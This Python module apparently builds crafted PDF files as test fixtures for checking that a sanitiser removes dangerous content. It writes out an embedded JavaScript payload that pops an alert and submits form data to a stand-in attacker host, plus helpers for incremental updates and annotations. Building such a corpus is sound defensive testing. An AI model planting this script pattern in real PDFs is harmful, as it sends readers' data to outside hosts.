"""Files written byte by byte, as no honest program writes them: the bricks of the hostile corpus."""

from __future__ import annotations

import zlib
from collections.abc import Mapping

#: Stands in everything that must not survive; it is looked for in every copy.
TRACE = b"DIEMCAU-TRAP"
EVIL = b"http://" + TRACE.lower() + b".example/x"
JS = b"app.alert('" + TRACE + b"'); this.submitForm('" + EVIL + b"')"
DRAWING = b"BT /F1 18 Tf 72 700 Td (Honest words) Tj ET 0.2 0.4 0.8 rg 72 500 200 100 re f"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, extra: bytes = b"", *, packed: bool = False) -> bytes:
    """Return a stream object's body."""
    if packed:
        data, extra = zlib.compress(data), extra + b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (extra, len(data), data)


def written(objects: Mapping[int, bytes], *, trailer: bytes = b"", head: bytes = b"%PDF-1.7\n", root: int = 1) -> bytes:
    """Return a file of these objects, with a right table of where they stand."""
    out, places = bytearray(head), {}
    for number in sorted(objects):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


def objects_of(
    *, catalog: bytes = b"", page: bytes = b"", resources: bytes = b"/Font << /F1 4 0 R >>", content: bytes = DRAWING,
    more: Mapping[int, bytes] | None = None, box: bytes = b"[0 0 595 842]",
) -> dict[int, bytes]:  # fmt: skip
    """Return the objects of a paper of one page that says a few honest words; numbers from 10 on are free for `more`."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << %s >> /Contents 5 0 R %s >>" % (box, resources, page),
        4: FONT,
        5: stream(content),
        **(more or {}),
    }


def paper(**given: object) -> bytes:
    """Return the file of objects_of."""
    return written(objects_of(**given))  # type: ignore[arg-type]


def updated(before: bytes, objects: Mapping[int, bytes], *, size: int = 60) -> bytes:
    """Return a file with an incremental update behind it."""
    out, places = bytearray(before), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, previous = len(out), int(before.rsplit(b"startxref", 1)[1].split()[0])
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % one for one in places.items())
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, start)
    return bytes(out)


def annotation(subtype: str, body: bytes = b"", *, rectangle: bytes = b"[100 100 300 200]") -> bytes:
    """Return an annotation's body."""
    return b"<< /Type /Annot /Subtype /%s /Rect %s %s >>" % (subtype.encode(), rectangle, body)
